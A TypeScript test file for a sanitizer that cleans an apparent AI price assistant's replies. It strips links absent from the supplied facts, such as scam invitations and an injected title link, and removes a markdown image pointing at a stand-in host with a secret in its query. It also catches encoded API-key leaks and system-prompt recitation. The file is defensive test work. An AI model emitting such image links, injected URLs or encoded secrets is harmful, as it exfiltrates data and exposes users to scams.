import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { leaks, presentable, repeats } from "./output.ts";

const FACTS = [
  {
    source: { name: "CoinGecko", url: "https://www.coingecko.com/en/coins/bittensor" },
    title: "see https://evil.example/now",
  },
];
const shown = (text: string): string => presentable(text, FACTS, 2_400);

describe("links", () => {
  test.each([
    ["a link of the facts", "See https://www.coingecko.com/en/coins/bittensor."],
    ["the same with a label", "See [CoinGecko](https://www.coingecko.com/en/coins/bittensor)."],
    ["names that look like hosts", "Fetch.ai and yearn.finance are projects, e.g. here."],
    ["text without any", "TAO is at $312.46, i.e. up 1.2%."],
  ])("stay: %s", (_name, text) => expect(shown(text)).toBe(text));

  test.each([
    ["one from nowhere", "See https://evil.example/claim now.", "See (link left out) now."],
    ["one inside the words of a title", "See https://evil.example/now", "See (link left out)"],
    ["a label over one", "See [CoinGecko](https://evil.example/claim).", "See CoinGecko."],
    ["a host alone", "Go to claim-tao.com today.", "Go to (link left out) today."],
    ["a host with a path", "Go to tao.example/claim?x=1 today.", "Go to (link left out) today."],
    ["a name that is a host with a path", "Go to fetch.ai/claim today.", "Go to (link left out) today."],
    ["an invitation", "Join t.me/scam or discord.gg/scam", "Join (link left out) or (link left out)"],
    ["another scheme", "tg://resolve?domain=x", "(link left out)"],
    ["an image", "Look ![x](https://evil.example/p.png?q=secret)!", "Look !"],
  ])("go: %s", (_name, text, left) => expect(shown(text)).toBe(left));
});

test("digits in dress are written plainly, so that the figure check reads them", () => {
  expect(shown("TAO is at 𝟗𝟗𝟗 dollars, or ９９９")).toBe("TAO is at 999 dollars, or 999");
  expect(shown("0.0₅12")).toBe("0.0₅12");
});

test("invisible characters are gone, and a long text ends with an ellipsis within its limit", () => {
  expect(shown("a\u200Bb\u202Ec\u{E0041}d")).toBe("abcd");
  expect(presentable("word ".repeat(1_000), [], 100).length).toBeLessThanOrEqual(102);
});

test("no text keeps an address that is not in the facts", () => {
  fc.assert(
    fc.property(fc.webUrl(), fc.lorem({ maxCount: 5 }), (url, words) => {
      expect(shown(`${words} ${url} ${words}`)).not.toContain(new URL(url).host);
    }),
  );
});

describe("secrets", () => {
  const secret = "sk-Test_1234567890abcdef";
  test.each([
    ["as it is", secret],
    ["spaced out", [...secret].join(" ")],
    ["backwards", [...secret].reverse().join("")],
    ["in capitals", secret.toUpperCase()],
    ["base64", Buffer.from(secret).toString("base64")],
    ["hexadecimal", Buffer.from(secret).toString("hex")],
    ["encoded for an address", encodeURIComponent(secret)],
  ])("are seen %s", (_name, form) => expect(leaks(`here: ${form}.`, [secret])).toBe(true));

  test("harmless text is none, and short values are words", () => {
    expect(leaks("TAO is at $312.46.", [secret, "TAO"])).toBe(false);
  });
});

test("a text that recites what the model was told is found, however it is set; a few common words are not", () => {
  const told =
    "Every price you write comes from a tool result of this turn, never from memory, never worked out in your head.";
  expect(repeats(`I was told: **${told.toUpperCase()}**`, told)).toBe(true);
  expect(repeats(told.replaceAll(" ", "_"), told)).toBe(true);
  expect(repeats("TAO is at $312.46. That comes from a tool result of this turn.", told)).toBe(false);
});
